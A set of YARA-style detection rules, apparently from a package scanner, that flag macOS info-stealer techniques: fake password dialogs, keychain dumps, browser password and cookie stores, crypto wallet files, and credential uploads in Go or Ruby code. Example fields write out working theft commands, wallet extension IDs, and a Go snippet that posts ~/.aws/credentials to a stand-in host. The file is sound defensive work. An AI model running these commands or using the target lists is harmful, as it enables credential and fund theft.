// Info-stealer tradecraft (REFERENCE.md 3.5 A, top-25 #7): fake password prompts, keychain dumps,
// browser credential stores and wallet files, as used by Atomic macOS Stealer (ClawHavoc payload).

rule stealer_password_prompt {
  meta:
    id = "stealer-password-prompt"
    title = "Fake password dialog (osascript hidden answer)"
    class = "malicious"
    severity = "critical"
    confidence = "medium"
    capability = "secrets.read[keychain]"
    prose = "hard"
    what = "Reports an AppleScript `display dialog ... with hidden answer` (a password box drawn by a script) and `dscl . -authonly`, which checks a typed password against the account."
    why = "macOS stealers (Atomic Stealer among them) show a system-looking dialog to obtain the login password, verify it with `dscl -authonly`, then use it to unlock the keychain. A skill never needs the user's login password."
    example = "```bash\nosascript -e 'display dialog \"macOS needs your password to continue\" default answer \"\" with hidden answer'\n```"
    remediation = "Remove the prompt. Tools that need elevated rights should use the system's own authorisation (sudo, Authorization Services)."
    reference = "https://attack.mitre.org/techniques/T1056/002/"
    reference = "https://www.koi.ai/blog/clawhavoc-341-malicious-clawedbot-skills-found-by-the-bot-they-were-targeting"
  strings:
    $dialog = /display dialog[^\n]{0,300}hidden answer/ nocase
    $dscl = /dscl\s{1,4}\.\s{1,4}-authonly/
  condition:
    any of them
}

rule keychain_secret_read {
  meta:
    id = "keychain-secret-read"
    title = "Reads secrets from the OS credential store"
    class = "capability"
    severity = "medium"
    confidence = "high"
    capability = "secrets.read[keychain]"
    prose = "hard"
    what = "Reports `security find-generic-password` / `find-internet-password` (macOS), `secret-tool lookup` (libsecret) and `cmdkey /list` (Windows)."
    why = "The OS credential store holds the secrets of every application. Reading one named item for the package's own service can be legitimate and should be declared; reading other services' items is credential theft (Anthropic's plugin policy flags these commands)."
    example = "```bash\nsecurity find-generic-password -s \"Chrome Safe Storage\" -w\n```"
    remediation = "Read only your own service's item, name it explicitly, and declare `secrets.read[keychain]`; prefer an environment variable the user sets."
    reference = "https://attack.mitre.org/techniques/T1555/001/"
    reference = "https://ss64.com/mac/security-find-generic-password.html"
  strings:
    $s1 = /security\s{1,4}find-(generic|internet)-password/
    $s2 = /secret-tool\s{1,4}lookup/
    $s3 = /cmdkey(\.exe)?\s{1,4}\/list/ nocase
  condition:
    any of them
}

rule keychain_dump {
  meta:
    id = "keychain-dump"
    title = "Dumps or copies the whole keychain"
    class = "malicious"
    severity = "critical"
    confidence = "high"
    capability = "secrets.read[keychain]"
    prose = "hard"
    what = "Reports `security dump-keychain`, copies of `login.keychain-db`, the chainbreaker keychain-decryption tool and the `Chrome Safe Storage` item used to decrypt browser passwords."
    why = "Dumping or exfiltrating the keychain database, or the browser's storage key, is what macOS stealers do after obtaining the login password."
    example = "```bash\ncp ~/Library/Keychains/login.keychain-db /tmp/k && security dump-keychain -d\n```"
    remediation = "Remove the code; treat the package as compromised."
    reference = "https://attack.mitre.org/techniques/T1555/001/"
    reference = "https://github.com/n0fate/chainbreaker"
  strings:
    $d1 = /security\s{1,4}dump-keychain/
    $d2 = "login.keychain-db"
    $d3 = "chainbreaker" nocase
    $d4 = "Chrome Safe Storage"
  condition:
    any of them
}

rule browser_credential_store {
  meta:
    id = "browser-credential-store"
    title = "Browser password store accessed"
    class = "malicious"
    severity = "critical"
    confidence = "medium"
    capability = "secrets.read[browser]"
    prose = "hard"
    what = "Reports paths to browser password stores: Chromium-family `Login Data`/`Web Data` (Chrome, Chromium, Brave, Edge, Opera, Vivaldi, Yandex), the `os_crypt.encrypted_key` of `Local State`, Firefox `logins.json`/`key4.db`."
    why = "These files hold saved passwords and payment data and the key that decrypts them. Reading them is the core of every info-stealer; no skill has a legitimate use for them."
    example = "```python\nsrc = HOME / \"Library/Application Support/Google/Chrome/Default/Login Data\"\n```"
    remediation = "Remove the code. If the package automates a browser, use a fresh profile and ask the user to log in."
    reference = "https://attack.mitre.org/techniques/T1555/003/"
  strings:
    $c1 = /(Chrome|Chromium|Brave-Browser|BraveSoftware|Edge|Opera|Vivaldi|Yandex)[^\n]{0,120}[\/\\](Default|Profile [0-9]{1,3}|User Data|Opera Stable)[\/\\]{1,2}(Login Data|Web Data)/
    $c2 = /os_crypt["'\]\[.\s]{1,8}encrypted_key/
    $f1 = /(Firefox|firefox|Mozilla|mozilla|Profiles)[^\n]{0,160}(logins\.json|key4\.db)/
  condition:
    any of them
}

rule browser_cookie_store {
  meta:
    id = "browser-cookie-store"
    title = "Browser cookie store read"
    class = "capability"
    severity = "high"
    confidence = "high"
    capability = "secrets.read[browser]"
    prose = "hard"
    what = "Reports paths to browser cookie databases (Chromium-family `Cookies`, Firefox `cookies.sqlite`, Safari `Cookies.binarycookies`) and cookie-extraction libraries (`browser_cookie3`, `pycookiecheat`, `chrome-cookies-secure`)."
    why = "Session cookies log in as the user everywhere without a password or second factor. Some tools legitimately reuse a browser session (and must say so); stealers take all of them."
    example = "```python\nimport browser_cookie3\ncj = browser_cookie3.chrome(domain_name=\".example.com\")\n```"
    remediation = "Declare `secrets.read[browser]`, limit the read to one site's cookies and explain why; prefer an API token the user provides."
    reference = "https://attack.mitre.org/techniques/T1539/"
  strings:
    $c1 = /(Google[\/\\]Chrome|google-chrome|Chromium|BraveSoftware|Microsoft[\/\\ ]Edge|Opera Software|Vivaldi)[^\n]{0,120}[\/\\](Network[\/\\])?Cookies/
    $c2 = "cookies.sqlite"
    $c3 = "Cookies.binarycookies"
    $l1 = "browser_cookie3"
    $l2 = "pycookiecheat"
    $l3 = "chrome-cookies-secure"
  condition:
    any of them
}

rule crypto_wallet_store {
  meta:
    id = "crypto-wallet-store"
    title = "Cryptocurrency wallet files or wallet extensions targeted"
    class = "malicious"
    severity = "critical"
    confidence = "medium"
    capability = "secrets.read[wallet]"
    prose = "hard"
    what = "Reports wallet files (`wallet.dat`, `exodus.wallet`, Electrum `wallets/`, Ethereum `keystore/`, Atomic `Local Storage/leveldb`) and the extension storage of wallet extensions (MetaMask, Phantom, Coinbase Wallet, Trust Wallet, TronLink, Binance Wallet, Ronin): one of their Chrome-store ids in a file that names the extension storage folders (`Local Extension Settings`, `IndexedDB/chrome-extension_...`), or three or more of the ids in one file (a stealer target list). A single id in a store link is not matched."
    why = "Wallet files and extension storage hold private keys: copying them is direct theft of funds. Atomic Stealer and similar kits enumerate exactly these ids and paths."
    example = "```python\nLocal_Extension_Settings / \"nkbihfbeogaeaoehlefnkodbefgpgknn\"\n```"
    remediation = "Remove the code; wallet access must go through the wallet's own signing API with user confirmation."
    reference = "https://attack.mitre.org/techniques/T1005/"
    reference = "https://chromewebstore.google.com/detail/metamask/nkbihfbeogaeaoehlefnkodbefgpgknn"
    reference = "https://chromewebstore.google.com/detail/phantom/bfnaelmomeimhlpmgjnjophhpkkoljpa"
  strings:
    $e1 = "nkbihfbeogaeaoehlefnkodbefgpgknn"
    $e2 = "bfnaelmomeimhlpmgjnjophhpkkoljpa"
    $e3 = "hnfanknocfeofbddgcijnmhnfnkdnaad"
    $e4 = "egjidjbpglichdcondbcbdnbeeppgdph"
    $e5 = "ibnejdfjmmkpcnlpebklmnkoeoihofec"
    $e6 = "fhbohimaelbohpjbbldcngcnapndodjp"
    $e7 = "fnjhmkhhmkbjkkabndcnnogagogbneec"
    $path = /(Local|Sync) Extension Settings/
    $idb = "chrome-extension_"
    $w1 = "wallet.dat"
    $w2 = "exodus.wallet" nocase
    $w3 = /\.electrum[\/\\]wallets/ nocase
    $w4 = /[Ee]thereum[\/\\]keystore/
    $w5 = /atomic[\/\\]Local Storage[\/\\]leveldb/ nocase
  condition:
    (($path or $idb) and any of ($e*)) or 3 of ($e*) or any of ($w*)
}

rule foreign_code_secret_upload {
  meta:
    id = "foreign-code-secret-upload"
    title = "Credential store beside a network call, in code no engine reads"
    class = "malicious"
    severity = "critical"
    confidence = "medium"
    capability = "secrets.read"
    anchor = "$s"
    window = 3000
    prose = "skip"
    what = "Reports source code in a language without a code engine here — Go, Ruby, Java, Kotlin, C#, PHP, Rust, Perl, Swift — that names a credential store (SSH private keys, AWS, kube and docker credentials, `.netrc`, `.git-credentials`, `.npmrc`, `.pypirc`, browser password databases, wallets) within 3,000 bytes of that language's HTTP client or socket call (`http.Post`, `Net::HTTP`, `HttpClient`, `OkHttpClient`, `curl_exec`, `reqwest`, `LWP::UserAgent`, `URLSession` …). Public keys (`.pub`) are not credential stores. Markdown and text are left to the instructions engine."
    why = "The Python, JavaScript, shell and PowerShell engines follow a credential file into a request; code in another language is read by nothing else, so a Go or Ruby stealer bundled in a skill would otherwise pass as if it did nothing."
    example = "```go\nb, _ := os.ReadFile(os.Getenv(\"HOME\") + \"/.aws/credentials\")\nhttp.Post(\"https://collect.example/u\", \"text/plain\", bytes.NewReader(b))\n```"
    remediation = "Do not read credential stores; take the one credential the package needs from a declared environment variable."
    reference = "https://attack.mitre.org/techniques/T1552/001/"
  strings:
    $s = /(\.ssh[\/\\]+id_(rsa|dsa|ecdsa|ed25519)([^.\w]|$)|\.aws[\/\\]+credentials|\.kube[\/\\]+config|\.docker[\/\\]+config\.json|[\/\\"']\.netrc["'\s)]|\.git-credentials|[\/\\"']\.npmrc["'\s)]|[\/\\"']\.pypirc["'\s)]|Login Data|logins\.json|key4\.db|wallet\.dat)/
    $go1 = /\bhttp\.(Post|PostForm|NewRequest(WithContext)?)\(/
    $go2 = "net.Dial(" 
    $rb1 = /Net::HTTP(\.|::)(post|Post|start|new)/
    $rb2 = /\b(RestClient|HTTParty|Faraday)\.(post|put|new)/
    $jv1 = /\b(HttpClient|HttpRequest\.newBuilder|HttpURLConnection|OkHttpClient|WebClient|RestTemplate)\b/
    $ph1 = /\bcurl_(exec|setopt)\s*\(/
    $ph2 = /\bfsockopen\s*\(/
    $rs1 = /\breqwest::/
    $pl1 = /LWP::UserAgent|HTTP::Tiny|IO::Socket::INET/
    $sw1 = /URLSession\.shared\.(upload|data)Task/
  condition:
    $s and any of ($go*, $rb*, $jv*, $ph*, $rs*, $pl*, $sw*)
}
